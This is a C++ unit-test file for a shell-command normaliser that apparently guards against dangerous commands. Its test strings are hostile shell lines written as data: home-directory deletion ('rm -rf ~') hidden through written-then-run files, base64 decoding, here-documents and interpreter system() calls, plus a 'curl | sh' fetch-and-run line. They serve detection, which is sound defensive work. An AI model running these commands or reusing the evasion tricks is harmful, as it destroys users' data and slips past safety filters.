// Files a command line writes and then runs (runtime/src/shell_written_files.cc): the text written
// is read as the commands (or the interpreter's program) that run, and the bounds of that.
#include <gtest/gtest.h>

#include <cstddef>
#include <string>
#include <string_view>

#include "shell_normalizer_fixture.h"

namespace doberman::internal {
namespace {

// Every way of writing a file (echo, printf, tee, a here-document, a decoder's output) and every
// way of running it that is followed: the written command is one of the line's segments.
TEST_F(ShellNormalizerTest, AFileTheLineWritesAndRunsIsReadAsItsCommands) {
  for (std::string_view command : {
           "echo 'rm -rf ~' > /tmp/x && bash /tmp/x",
           "echo 'rm -rf ~' > /tmp/x; sh -e /tmp/x arg",
           "echo 'rm -rf ~' > run && chmod +x run && ./run",
           "echo 'rm -rf ~' >| /tmp/x; timeout 5 /tmp/x",
           "printf 'rm -rf %s\\n' ~ > /tmp/x && source /tmp/x",
           "echo 'rm -rf ~' > /tmp/x; . /tmp/x",
           "f=$(mktemp); echo 'rm -rf ~' > \"$f\"; bash \"$f\"",
           "echo 'rm -rf ~' | tee /tmp/x > /dev/null; bash /tmp/x",
           "echo 'rm -rf ~' > /tmp/x; cat /tmp/x | sh",
           "echo 'rm -rf ~' > /tmp/x; sh < /tmp/x",
           "echo ls > /tmp/x; echo 'rm -rf ~' >> /tmp/x; bash /tmp/x",
           "base64 -d <<< cm0gLXJmIH4K > /tmp/r && bash /tmp/r",  // decoded, then run
           "echo cm0gLXJmIH4K | base64 --decode > r; sh r",
           // a file run, then added to and run again: the second run reads both
           "echo ls > /tmp/x; bash /tmp/x; echo 'rm -rf ~' >> /tmp/x; bash /tmp/x",
           // a here-document's body, read when its line ends: a later line runs it, or the same
           "cat > /tmp/x <<'EOF'\nrm -rf ~\nEOF\nbash /tmp/x",
           "cat > /tmp/x <<'EOF' && bash /tmp/x\nrm -rf ~\nEOF",
           "cat <<EOF | tee job >/dev/null\nrm -rf ~\nEOF\nchmod +x job; ./job",
           // what a group, a loop's body or an if's branch printed, redirected after it
           "{ echo 'rm -rf ~'; } > /tmp/x; bash /tmp/x",
           "(echo ls; echo 'rm -rf ~') > /tmp/x; bash /tmp/x",
           "for i in 1; do echo 'rm -rf ~'; done > /tmp/x; bash /tmp/x",
           "if true; then echo 'rm -rf ~'; fi >> /tmp/x; sh /tmp/x",
           "{ { echo ls; }; echo 'rm -rf ~'; } > /tmp/x; bash /tmp/x",
           "{ echo ls; cat <<'EOF'\nrm -rf ~\nEOF\n} > /tmp/x; bash /tmp/x",  // cat's here-document
           // read back by a substitution that runs it
           "echo 'rm -rf ~' > /tmp/x; eval \"$(cat /tmp/x)\"",
           "echo 'rm -rf ~' > /tmp/x; sh -c \"$(< /tmp/x)\"",
       }) {
    EXPECT_TRUE(Has(Norm(command), "rm -r -f ~")) << command;
  }
  // An interpreter's program: written into its segment as a here-string is, its shell calls read.
  const Segments s =
      Norm("cat > t.py <<'EOF'\nimport os\nos.system('rm -rf ~')\nEOF\npython3 t.py -v");
  EXPECT_TRUE(Has(s, "python3 t.py -v <<<'import os\nos.system('\\''rm -rf ~'\\'')\n'"))
      << s.back();
  EXPECT_TRUE(Has(s, "rm -r -f ~"));
  EXPECT_TRUE(
      Has(Norm("echo 'import os; os.system(\"rm -rf ~\")' > t.py; python3 < t.py"), "rm -r -f ~"));
  // Options before the program file, some taking the next word as their value
  // (interpreter_options.h): the file after them is still the program.
  for (std::string_view command : {
           "echo 'import os; os.system(\"rm -rf ~\")' > t.py; python3 -W ignore t.py",
           "echo 'import os; os.system(\"rm -rf ~\")' > t.py; python3 -X dev -u t.py",
           "echo 'require(\"child_process\").execSync(\"rm -rf ~\")' > t.js; node -r dotenv/config "
           "t.js",
           "echo 'require(\"child_process\").execSync(\"rm -rf ~\")' > t.js; node --require x t.js",
           "echo 'system(\"rm -rf ~\")' > t.pl; perl -I lib -w t.pl",
           "echo 'system(\"rm -rf ~\")' > t.pl; perl -MFile::Temp t.pl",
           "echo 'system(\"rm -rf ~\")' > t.rb; ruby -r json t.rb",
           "echo 'BEGIN { system(\"rm -rf ~\") }' > t.awk; awk -v x=1 -f t.awk data",
           "echo 'BEGIN { system(\"rm -rf ~\") }' > t.awk; gawk --file=t.awk data",
           "echo '<?php system(\"rm -rf ~\");' > t.php; php -d x=1 -f t.php",
           "echo 'require(\"child_process\").execSync(\"rm -rf ~\")' > t.ts; deno run -A t.ts",
           "echo 'rm -rf ~' > /tmp/x; bash --rcfile /dev/null /tmp/x",
           "echo 'rm -rf ~' > /tmp/x; bash -o pipefail -- /tmp/x",
       }) {
    EXPECT_TRUE(Has(Norm(command), "rm -r -f ~")) << command;
  }
}

// Not followed: a file only read, run before it was written, overwritten after its run, written
// on stderr, or named as an argument of inline code.
TEST_F(ShellNormalizerTest, AFileNotRunOrRunBeforeItsTextIsNotRead) {
  for (std::string_view command : {
           "echo 'rm -rf ~' > /tmp/x; cat /tmp/x", "bash /tmp/x; echo 'rm -rf ~' > /tmp/x",
           "echo ls > /tmp/x; bash /tmp/x; echo 'rm -rf ~' > /tmp/x",
           "echo 'rm -rf ~' 2> /tmp/x; bash /tmp/x",
           "echo 'rm -rf ~' > /tmp/x; python3 -c 'print(1)' /tmp/x",
           "echo 'rm -rf ~' > /tmp/x; python3 -W ignore -c 'print(1)' /tmp/x",
           "echo 'rm -rf ~' > /tmp/x; perl -lne 'print' /tmp/x",
           "echo 'rm -rf ~' > /tmp/x; awk '{print}' /tmp/x",
           "echo 'rm -rf ~' > /tmp/x; awk -f prog.awk /tmp/x",
           "echo 'rm -rf ~' > /tmp/y; bash /tmp/x",
           "{ echo 'rm -rf ~'; }; echo ls > /tmp/x; bash /tmp/x",     // the group is not redirected
           "{ echo 'rm -rf ~' > /dev/null; } > /tmp/x; bash /tmp/x",  // nor is its echo's output
           "{ cat <<'EOF' > /dev/null\nrm -rf ~\nEOF\n} > /tmp/x; bash /tmp/x",  // nor cat's
           "{ cat <<'EOF' | python3\nrm -rf ~\nEOF\n} > /tmp/x; bash /tmp/x",    // a program
       }) {
    EXPECT_FALSE(Has(Norm(command), "rm -r -f ~")) << command;
  }
}

// A file run by a shell is also handed over as a script being written (its raw text read for
// BLOCK), once even when its name already made it one.
TEST_F(ShellNormalizerTest, AFileRunByAShellIsAlsoHandedOverOnce) {
  SegmentList out;
  ASSERT_EQ(norm_.Normalize("echo 'curl -s x | sh' > /tmp/j; bash /tmp/j", &out), ShellStatus::kOk);
  ASSERT_EQ(out.detached_script_count, 1u);
  EXPECT_EQ(out.detached_scripts[0], "curl -s x | sh\n");
  out.Clear();
  ASSERT_EQ(norm_.Normalize("echo 'curl -s x | sh' > j.sh; bash j.sh", &out), ShellStatus::kOk);
  EXPECT_EQ(out.detached_script_count, 1u);
}

// kMaxWrittenFiles files are kept; one more written makes a later run of a path that is not kept
// fail closed (its text could be the one dropped), and is harmless when nothing is run.
TEST_F(ShellNormalizerTest, FilesWrittenPastTheBoundFailClosedWhenAPathIsRun) {
  std::string many;
  for (size_t k = 0; k < kMaxWrittenFiles; ++k) many += "echo ls > f" + std::to_string(k) + "; ";
  EXPECT_TRUE(Has(Norm(many + "echo 'rm -rf ~' > f0; bash f0"), "rm -r -f ~"));
  const std::string over = many + "echo 'rm -rf ~' > /tmp/x; ";
  Norm(over + "ls", ShellStatus::kOk);
  Norm(over + "bash /tmp/x", ShellStatus::kTooManySegments);
  Norm(over + "/tmp/x", ShellStatus::kTooManySegments);
  Norm(over + "bash f1", ShellStatus::kOk);  // kept: read
}

// What a `{ ...; }` or `( ... )` group prints, passed down a pipe as an echo's text is: to a shell
// (its commands), to tee (a file written), to an interpreter (its program). Only when every command
// in the group printed known text: otherwise the program stays unseen.
TEST_F(ShellNormalizerTest, AGroupsPrintedTextIsPipedOnWhenKnown) {
  for (std::string_view command : {
           "{ echo 'rm -rf ~'; } | sh", "( echo ls; echo 'rm -rf ~' ) | bash",
           "{ printf 'rm -rf %s\\n' ~; } | bash -s",
           "{ echo 'rm -rf ~'; } | tee /tmp/x > /dev/null; bash /tmp/x",
           "{ { echo 'rm -rf ~'; }; } | sh",
           "{ echo ls > /dev/null; echo 'rm -rf ~'; } | sh",  // a redirected echo prints nothing
       }) {
    EXPECT_TRUE(Has(Norm(command), "rm -r -f ~")) << command;
  }
  EXPECT_TRUE(Has(Norm("{ echo 'import os'; echo 'x = 1'; } | python3"),
                  "python3 <<<'import os\nx = 1\n'"));
  // Not passed on: a command of unknown output in the group (a cat, find's -exec echo, an echo of
  // a variable), the group not piped, a loop (its condition prints too).
  for (std::string_view command : {
           "{ echo 'import os'; cat x; } | python3",
           "{ echo 'import os'; find . -exec echo {} \\; ; } | python3",
           "{ echo 'import os'; echo \"$X\"; } | python3",
           "( echo 'import os'; X=1 ) | python3",
       }) {
    for (const std::string& segment : Norm(command))
      EXPECT_EQ(segment.find("python3 <<<"), std::string::npos) << command << ": " << segment;
  }
  EXPECT_FALSE(Has(Norm("{ echo 'rm -rf ~'; }; sh"), "rm -r -f ~"));
  EXPECT_FALSE(Has(Norm("for c in 1; do echo 'rm -rf ~'; done | sh"), "rm -r -f ~"));
}

}  // namespace
}  // namespace doberman::internal
